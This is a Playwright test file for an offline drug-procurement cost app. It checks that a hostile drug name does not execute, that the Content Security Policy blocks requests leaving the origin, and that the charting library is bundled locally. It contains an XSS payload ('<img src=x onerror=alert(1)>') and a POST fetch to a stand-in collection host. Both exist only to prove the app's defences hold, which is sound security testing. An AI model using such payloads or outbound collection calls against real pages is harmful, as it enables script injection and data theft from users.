// Offline and private: nothing leaves the origin, the CSP forbids it, hostile text stays text.
import { test, expect } from '@playwright/test';
import { join } from 'node:path';
import { openPage, loadSample, recordOutside, fixtures, shot } from './helpers.mjs';

test('a hostile drug name shows as text and runs nothing', async ({ page }) => {
  const dialogs = [];
  page.on('dialog', async (d) => { dialogs.push(d.message()); await d.dismiss(); });
  await openPage(page);
  await page.getByTestId('import-file').setInputFiles(join(fixtures, 'hostile.csv'));
  await expect(page.getByTestId('total-baseline')).toHaveAttribute('data-value', '160');
  await page.getByRole('tab', { name: '数据输入' }).click(); // an import shows the results: back to the data
  // shown literally, in the input table, the result tables and the notes (the grid draws its
  // rows a frame after the totals: wait for the cell, then read every drug cell's text)
  await expect(page.locator('#lines-grid .ag-cell[data-field=drug]').filter({ hasText: '<img src=x onerror=alert(1)>' })).toHaveCount(1);
  const inputs = await page.locator('#lines-grid .ag-cell[data-field=drug]').evaluateAll((els) => els.map((e) => e.textContent));
  expect(inputs).toContain('<img src=x onerror=alert(1)>');
  await expect(page.locator('#drug-table')).toContainText('<img src=x onerror=alert(1)>');
  await expect(page.locator('#line-table')).toContainText('<img src=x onerror=alert(1)>');
  await expect(page.locator('#warnings')).toContainText('<img src=x onerror=alert(1)>');
  // no element was made from the text
  expect(await page.locator('main img, main svg, main script').count()).toBe(0);
  await page.getByRole('tab', { name: '测算结果' }).click();
  await expect(page.locator('#chart-category')).toHaveAttribute('data-drawn', 'true');
  await page.locator('#chart-category').hover();
  await page.waitForTimeout(300);
  expect(dialogs).toEqual([]);
  expect(await page.evaluate(() => document.querySelectorAll('img[src=x]').length)).toBe(0);
  await shot(page, 'hostile-name');
});

test('the page makes no request outside its origin and its CSP forbids one', async ({ page, baseURL, request }) => {
  const outside = recordOutside(page, baseURL);
  const csp = [];
  page.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) csp.push(m.text()); });
  await openPage(page);
  await loadSample(page);
  await page.getByRole('tab', { name: '第七批目录' }).click();
  await page.locator('#catalog-search').fill('lftn');
  await page.getByRole('tab', { name: '方案' }).click();
  await page.getByRole('tab', { name: '测算结果' }).click();
  await expect(page.locator('#chart-cuts')).toHaveAttribute('data-drawn', 'true');
  expect(outside).toEqual([]);

  // the policy itself: own origin only, no eval
  const res = await request.get('/');
  const policy = res.headers()['content-security-policy'];
  expect(policy).toContain("default-src 'self'");
  expect(policy).toContain("connect-src 'self'");
  expect(policy).not.toMatch(/'unsafe-eval'|'unsafe-inline'[^;]*script|script-src[^;]*'unsafe-inline'/);
  expect(policy).not.toMatch(/https?:/);
  // a request elsewhere is refused by the browser
  const blocked = await page.evaluate(async () => {
    try { await fetch('http://203.0.113.9/collect', { method: 'POST', body: 'x' }); return false; } catch { return true; }
  });
  expect(blocked).toBe(true);
  expect(outside).toEqual([]);
  expect(csp.length).toBeGreaterThan(0);
});

test('ECharts is bundled with the page, not fetched from a CDN', async ({ page, baseURL }) => {
  const scripts = [];
  page.on('request', (r) => { if (r.resourceType() === 'script') scripts.push(r.url()); });
  await openPage(page);
  await loadSample(page);
  await expect(page.locator('#chart-category')).toHaveAttribute('data-drawn', 'true');
  expect(scripts).toContain(`${baseURL}/vendor/echarts.js`);
  expect(scripts.every((u) => u.startsWith(baseURL))).toBe(true);
});
